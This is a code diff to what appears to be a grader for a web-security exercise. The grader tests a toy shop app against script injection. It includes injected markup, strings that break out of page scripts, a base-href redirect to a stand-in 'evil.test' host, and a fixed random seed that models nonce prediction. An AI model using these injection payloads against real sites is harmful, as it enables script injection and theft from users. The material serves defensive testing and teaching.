@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import random
 import re
 from collections.abc import Callable
 from typing import Any
@@ -12,6 +13,7 @@ from playwright.sync_api import Page
 
 from helpers import browser, web
 from helpers.exchange import Response, get, probe
+from helpers.exercises.nonce_shops import AWKWARD
 
 SITE = "https://shop.test"
 RAN = "document.documentElement.dataset.{} = 'ran'"
@@ -29,7 +31,6 @@ ATTACKS = (
 )
 ENDS = (f'";{CODE};"', f'");{CODE}//')
 """What ends a text in the page's own code, and goes on with an attacker's."""
-AWKWARD = 'Tom\'s \\ "flat" white'
 FOLLOW = """async () => {
   document.querySelector("#attack")?.click()
   const basket = () => document.querySelector("#basket")?.textContent
@@ -60,9 +61,8 @@ def repair(app: Any) -> dict[str, bool]:
 
 def build(app: Any) -> dict[str, bool]:
     """Exercise 06-2: the search page and the page for a wrong address."""
-    seen = looked(
-        app, "/?q=plainwords&basket=latte", "plainwords", ["/?q={}", "/{}", "/?basket={}"]
-    )
+    places = ["/?q={}", "/{}", "/?basket={}", "/{}.js", "/{}.css", "/app{}", "/style{}"]
+    seen = looked(app, "/?q=plainwords&basket=latte", "plainwords", places)
     later = looked(app, f"/?q=plainwords&basket={quote(AWKWARD)}", "plainwords", [])
     baskets = [each["basket at first"] for each in (seen, later)]
     shows = baskets == ["Your basket: latte", f"Your basket: {AWKWARD}"]
@@ -131,6 +131,7 @@ def _look(page: Page, plain: str, places: list[str]) -> dict[str, Any]:
     markup = ATTACKS + named + known + "<base href=https://evil.test/>"
     attacks = [
         ("/injected?{}", markup),
+        ("/injected-home?{}", markup),
         *((place, text) for place in places for text in (*ENDS, markup)),
     ]
     ran: set[str] = set()
@@ -160,7 +161,8 @@ def _named() -> list[str]:
 class _Injecting:
     """The app, and at /injected its plain page with the query's markup in place of the words.
 
-    A page that may be kept is: as in a cache between the app and its visitors.
+    At /injected-home the page at / ends with it. A page that may be kept is: as in a cache between
+    the app and its visitors. And the attacker knows where random stands.
     """
 
     def __init__(self, app: Any, plain: str, words: str, lasting: str) -> None:
@@ -168,17 +170,24 @@ class _Injecting:
         self.kept: Response | None = None
 
     def __call__(self, environ: Any, start_response: Any) -> Any:
-        if environ["PATH_INFO"] != "/injected":
+        if not environ["PATH_INFO"].startswith("/injected"):
+            random.seed(0)
             return self.app(environ, start_response)
+        markup = unquote(environ["QUERY_STRING"])
+        if environ["PATH_INFO"] == "/injected-home":
+            response = probe(self.app, [get("/")])[0].response
+            assert response
+            return self._answer(response, response.text + markup, start_response)
         response = self.kept or probe(self.app, [get(self.plain)])[0].response
         assert response
         if re.search(self.lasting, response.header("Cache-Control") or ""):
             self.kept = response
-        markup = unquote(environ["QUERY_STRING"])
-        body = response.text.replace(self.words, markup, 1).encode()
+        return self._answer(response, response.text.replace(self.words, markup, 1), start_response)
+
+    def _answer(self, response: Response, text: str, start_response: Any) -> list[bytes]:
         fields = [field for field in response.headers if field[0].lower() != "content-length"]
         start_response(f"{response.status} Injected", fields)
-        return [body]
+        return [text.encode()]
 
 
 def _evil() -> Flask:
